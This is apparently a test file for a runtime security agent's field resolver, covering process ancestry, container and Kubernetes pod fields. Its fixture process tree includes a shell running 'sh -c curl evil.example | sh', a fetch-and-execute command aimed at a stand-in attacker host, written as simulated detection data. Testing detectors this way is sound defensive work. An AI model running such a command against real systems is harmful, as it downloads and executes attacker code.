import assert from 'node:assert/strict';
import type { Event } from '../../core/event.js';
import { defineField } from '../../core/fields/catalogue-support.js';
import { createAgentContext, type PodLookup } from './agent-context.js';
import type { PodMetadata } from './cri/pod-metadata.js';
import type { ProcReader, ProcSnapshot } from './proc-reader.js';
import { ProcessTable } from './process-table.js';

const NGINX_ID = 'c0ffee00'.repeat(8);
const SANDBOX_ID = '5a4db0c5'.repeat(8);

const NGINX_POD: PodMetadata = Object.freeze({
  containerId: NGINX_ID,
  containerName: 'nginx',
  image: 'registry.local:5000/shop/nginx:1.27.0@sha256:0123abcd',
  podName: 'web-7d4b9c6f5-x2x9k',
  namespace: 'shop',
  podUid: '3e41dc6b-08a8-44db-bc2a-3724b18ab19a',
  labels: Object.freeze({ app: 'web', 'pod-template-hash': '7d4b9c6f5', canary: '' }),
  sandboxId: SANDBOX_ID,
  startedAt: 1_700_000_000_000_000_000n,
});

/** Pod metadata cache fake: `peek` answers from `known`; `resolve` is recorded and left pending. */
class FakePods implements PodLookup {
  readonly known = new Map<string, PodMetadata>();
  readonly peeks: string[] = [];
  readonly resolves: string[] = [];
  private readonly waiting: (() => void)[] = [];

  peek(containerId: string): PodMetadata | undefined {
    this.peeks.push(containerId);
    return this.known.get(containerId);
  }

  resolve(containerId: string): Promise<PodMetadata | undefined> {
    this.resolves.push(containerId);
    return new Promise((done) => this.waiting.push(() => done(this.known.get(containerId))));
  }

  /** Answers every pending lookup. */
  async settle(): Promise<void> {
    for (const answer of this.waiting.splice(0)) answer();
    await new Promise<void>((done) => setImmediate(done));
  }
}

/** /proc fake: the container of each pid, counting reads. */
class FakeProc implements ProcReader {
  containerReads = 0;
  constructor(private readonly containers: Map<number, string>) {}
  read(): ProcSnapshot | undefined {
    return undefined;
  }
  containerId(pid: number): string | undefined {
    this.containerReads++;
    return this.containers.get(pid);
  }
}

function activity(pid: number, ppid: number, name: string, extra: Record<string, unknown> = {}): Event {
  return {
    fields: {
      'evt.type': 'read',
      'evt.dir': '<',
      'proc.pid': pid,
      'thread.tid': pid,
      'proc.ppid': ppid,
      'proc.name': name,
      ...extra,
    },
  };
}

/** A table knowing: systemd(1) > containerd-shim(50) > nginx(300, in NGINX_ID) > sh(400) > curl(500). */
function nodeTable(proc?: ProcReader): ProcessTable {
  const table = new ProcessTable(proc === undefined ? {} : { procReader: proc });
  table.observe(
    activity(1, 0, 'systemd', {
      'proc.exe': '/sbin/init',
      'proc.exepath': '/usr/lib/systemd/systemd',
      'container.id': 'host',
    }),
  );
  table.observe(activity(50, 1, 'containerd-shim', { 'container.id': 'host' }));
  table.observe(
    activity(300, 50, 'nginx', {
      'proc.exe': 'nginx',
      'proc.exepath': '/usr/sbin/nginx',
      'proc.cmdline': 'nginx -g daemon off;',
    }),
  );
  table.observe(
    activity(400, 300, 'sh', { 'proc.exe': '/bin/sh', 'proc.cmdline': 'sh -c curl evil.example | sh' }),
  );
  table.observe(
    activity(500, 400, 'curl', {
      'proc.exe': 'curl',
      'proc.cmdline': 'curl evil.example',
      'user.uid': 101,
      'user.name': 'nginx',
      'evt.rawtime': 1,
    }),
  );
  return table;
}

/** An event naming only its process, as a bare sensor would send it. */
function bare(pid: number, extra: Record<string, unknown> = {}): Event {
  return { fields: { 'evt.type': 'connect', 'proc.pid': pid, ...extra } };
}

describe('agent field context', () => {
  it("answers the process's own fields, its parent's and its ancestors'", () => {
    const context = createAgentContext({ processes: nodeTable() });
    const evt = bare(500);
    const ask = (field: string, arg?: string): unknown => context.resolve(field, arg, evt);
    assert.equal(ask('proc.name'), 'curl');
    assert.equal(ask('proc.cmdline'), 'curl evil.example');
    assert.equal(ask('proc.args'), 'evil.example');
    assert.equal(ask('proc.exeline'), 'curl evil.example');
    assert.equal(ask('proc.ppid'), 400);
    assert.equal(ask('user.uid'), 101);
    assert.equal(ask('user.name'), 'nginx');
    assert.equal(ask('proc.pname'), 'sh');
    assert.equal(ask('proc.pcmdline'), 'sh -c curl evil.example | sh');
    assert.equal(ask('proc.pexe'), '/bin/sh');
    assert.equal(ask('proc.aname', '0'), 'curl');
    assert.equal(ask('proc.aname', '2'), 'nginx');
    assert.equal(ask('proc.apid', '3'), 50);
    assert.equal(ask('proc.aexepath', '2'), '/usr/sbin/nginx');
    assert.equal(ask('proc.acmdline', '1'), 'sh -c curl evil.example | sh');
    assert.equal(ask('proc.aexe', '4'), '/sbin/init');
    assert.equal(ask('proc.aname', '5'), undefined);
    assert.equal(ask('proc.aname', 'x'), undefined);
    assert.deepEqual(ask('proc.aname'), ['sh', 'nginx', 'containerd-shim', 'systemd']);
    assert.deepEqual(ask('proc.apid'), [400, 300, 50, 1]);
    assert.equal(ask('proc.cwd'), undefined, 'never told');
    assert.equal(ask('no.such.field'), undefined);
    assert.equal(context.resolve('proc.name', undefined, bare(999)), undefined, 'unknown process');
    assert.equal(context.resolve('proc.pname', undefined, { fields: {} }), undefined, 'no pid');
  });

  it('answers container and pod fields from the pod metadata cache', () => {
    const pods = new FakePods();
    pods.known.set(NGINX_ID, NGINX_POD);
    const context = createAgentContext({
      processes: nodeTable(new FakeProc(new Map([[500, NGINX_ID]]))),
      pods,
    });
    const evt = bare(500);
    const ask = (field: string, arg?: string): unknown => context.resolve(field, arg, evt);
    assert.equal(ask('container.id'), NGINX_ID.slice(0, 12));
    assert.equal(ask('container.full_id'), NGINX_ID);
    assert.equal(ask('container.name'), 'nginx');
    assert.equal(ask('container.image'), 'registry.local:5000/shop/nginx:1.27.0@sha256:0123abcd');
    assert.equal(ask('container.image.repository'), 'registry.local:5000/shop/nginx');
    assert.equal(ask('container.image.tag'), '1.27.0');
    assert.equal(ask('container.image.digest'), 'sha256:0123abcd');
    assert.equal(ask('k8s.pod.name'), 'web-7d4b9c6f5-x2x9k');
    assert.equal(ask('k8s.ns.name'), 'shop');
    assert.equal(ask('k8s.pod.uid'), '3e41dc6b-08a8-44db-bc2a-3724b18ab19a');
    assert.equal(ask('k8s.pod.id'), '3e41dc6b-08a8-44db-bc2a-3724b18ab19a');
    assert.equal(ask('k8s.pod.sandbox_id'), SANDBOX_ID.slice(0, 12));
    assert.equal(ask('k8s.pod.full_sandbox_id'), SANDBOX_ID);
    assert.equal(ask('k8s.pod.labels'), 'app:web, canary, pod-template-hash:7d4b9c6f5');
    assert.equal(ask('k8s.pod.label', 'app'), 'web');
    assert.equal(ask('k8s.pod.label', 'tier'), undefined);
    assert.deepEqual(context.workloadOf(evt), {
      namespace: 'shop',
      ownerKind: 'Deployment',
      ownerName: 'web',
      container: 'nginx',
      image: NGINX_POD.image,
    });
    assert.deepEqual(pods.peeks, [NGINX_ID], 'one cache lookup for all the fields of one event');
  });

  it('splits images without a tag or registry port correctly', () => {
    const pods = new FakePods();
    pods.known.set(NGINX_ID, { ...NGINX_POD, image: 'localhost:5000/nginx' });
    const context = createAgentContext({ processes: nodeTable(), pods });
    const evt = bare(500, { 'container.id': NGINX_ID });
    assert.equal(context.resolve('container.image.repository', undefined, evt), 'localhost:5000/nginx');
    assert.equal(context.resolve('container.image.tag', undefined, evt), undefined);
    pods.known.set(NGINX_ID, { ...NGINX_POD, image: 'sha256:4f1a9c' });
    const byId = bare(500, { 'container.id': NGINX_ID });
    assert.equal(context.resolve('container.image', undefined, byId), 'sha256:4f1a9c');
    assert.equal(context.resolve('container.image.repository', undefined, byId), undefined);
  });

  it('names host processes as Falco does, without asking for a pod', () => {
    const pods = new FakePods();
    const context = createAgentContext({ processes: nodeTable(), pods });
    const evt = bare(50);
    assert.equal(context.resolve('container.id', undefined, evt), 'host');
    assert.equal(context.resolve('container.name', undefined, evt), 'host');
    assert.equal(context.resolve('container.image', undefined, evt), undefined);
    assert.equal(context.resolve('k8s.pod.name', undefined, evt), undefined);
    assert.equal(context.workloadOf(evt), undefined);
    assert.deepEqual(pods.peeks, []);
    assert.deepEqual(pods.resolves, []);
  });

  it('looks an unknown container up in the background, once, and answers once it is known', async () => {
    const pods = new FakePods();
    const context = createAgentContext({ processes: nodeTable(), pods });
    const ask = (evt: Event): unknown => context.resolve('k8s.pod.name', undefined, evt);
    assert.equal(ask(bare(500, { 'container.id': NGINX_ID })), undefined);
    assert.equal(ask(bare(500, { 'container.id': NGINX_ID })), undefined);
    assert.deepEqual(pods.resolves, [NGINX_ID], 'one lookup while one is in flight');
    pods.known.set(NGINX_ID, NGINX_POD);
    await pods.settle();
    assert.equal(ask(bare(500, { 'container.id': NGINX_ID })), 'web-7d4b9c6f5-x2x9k');
    // A 12-character id is no key of the runtime's: nothing to look up.
    assert.equal(ask(bare(500, { 'container.id': 'deadbeef0123' })), undefined);
    assert.deepEqual(pods.resolves, [NGINX_ID]);
  });

  it('keeps at most maxPendingLookups lookups in flight', async () => {
    const pods = new FakePods();
    const context = createAgentContext({ processes: nodeTable(), pods, maxPendingLookups: 2 });
    for (const digit of ['1', '2', '3'])
      context.resolve('k8s.ns.name', undefined, bare(500, { 'container.id': digit.repeat(64) }));
    assert.deepEqual(pods.resolves, ['1'.repeat(64), '2'.repeat(64)]);
    await pods.settle();
    context.resolve('k8s.ns.name', undefined, bare(500, { 'container.id': '3'.repeat(64) }));
    assert.equal(pods.resolves.at(-1), '3'.repeat(64));
  });

  it("prefers the event's container id, unless the table holds the full form of it", () => {
    const context = createAgentContext({ processes: nodeTable(new FakeProc(new Map([[500, NGINX_ID]]))) });
    assert.equal(context.containerIdOf(bare(500, { 'container.id': NGINX_ID.slice(0, 12) })), NGINX_ID);
    assert.equal(context.containerIdOf(bare(500, { 'container.id': 'host' })), 'host');
  });

  it('computes nothing for an event until a field is asked', () => {
    const proc = new FakeProc(new Map([[500, NGINX_ID]]));
    const pods = new FakePods();
    const table = nodeTable(proc);
    const context = createAgentContext({ processes: table, pods });
    for (let i = 0; i < 100; i++)
      table.observe({ fields: { 'evt.type': 'read', 'proc.pid': 500, 'proc.name': 'curl' }, context });
    assert.equal(proc.containerReads, 0);
    assert.deepEqual(pods.peeks, []);
    const evt = bare(500);
    context.resolve('container.id', undefined, evt);
    context.resolve('container.id', undefined, bare(500));
    assert.equal(proc.containerReads, 1, "the process's container is read once, when first asked");
  });

  it("answers through the field catalogue's standard extraction", () => {
    const context = createAgentContext({ processes: nodeTable() });
    const aname = defineField({
      name: 'proc.aname',
      type: 'charbuf',
      arg: 'index',
      description: 'ancestor name',
    });
    const grandparent = aname.extractor('2');
    assert.equal(grandparent({ fields: { 'proc.pid': 500 }, context }), 'nginx', 'from the context');
    assert.equal(
      grandparent({ fields: { 'proc.pid': 500, 'proc.aname[2]': 'bash' }, context }),
      'bash',
      'the record first',
    );
    assert.equal(
      grandparent({ fields: { 'proc.pid': 500, 'proc.aname[2]': null }, context }),
      null,
      'null is an answer',
    );
  });
});
